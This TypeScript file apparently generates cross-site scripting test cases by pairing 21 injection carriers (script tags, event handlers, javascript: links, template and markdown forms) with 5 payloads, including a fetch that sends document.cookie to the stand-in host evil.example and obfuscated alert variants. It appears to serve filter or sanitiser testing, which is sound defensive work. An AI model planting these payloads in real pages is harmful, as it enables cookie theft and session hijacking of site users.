/** Places in a page where a payload can run, and payloads; every pair is one case. Written for this project; CC0. */
const CARRIERS: readonly string[] = [
  '<script>@</script>',
  '<img src=x onerror="@">',
  '<svg onload="@">',
  '<svg><script>@</script></svg>',
  '<body onload="@">',
  '<iframe src="javascript:@"></iframe>',
  '<a href="javascript:@">invoice</a>',
  '[invoice](javascript:@)',
  '![x](https://evil.example/p.png?c=@)',
  '<details open ontoggle="@">',
  '<math><mi xlink:href="javascript:@">x</mi></math>',
  '"><img src=x onerror="@">',
  "'-@-'",
  '{{constructor.constructor("@")()}}',
  '#{@}',
  '<style>@import "https://evil.example/@.css"</style>',
  '<form action="https://evil.example/@"><button>Pay</button></form>',
  '<object data="data:text/html,<script>@</script>"></object>',
  '</title><script>@</script>',
  '<!--><script>@</script>-->',
  'data:text/html;base64,@',
]
const PAYLOADS: readonly string[] = [
  'alert(1)',
  "fetch('https://evil.example/'+document.cookie)",
  'location=`https://evil.example`',
  'al\u200bert(1)',
  '&#97;lert(1)',
]

export const scriptTexts: readonly string[] = CARRIERS.flatMap((carrier) =>
  PAYLOADS.map((payload) => carrier.replaceAll('@', payload)),
)
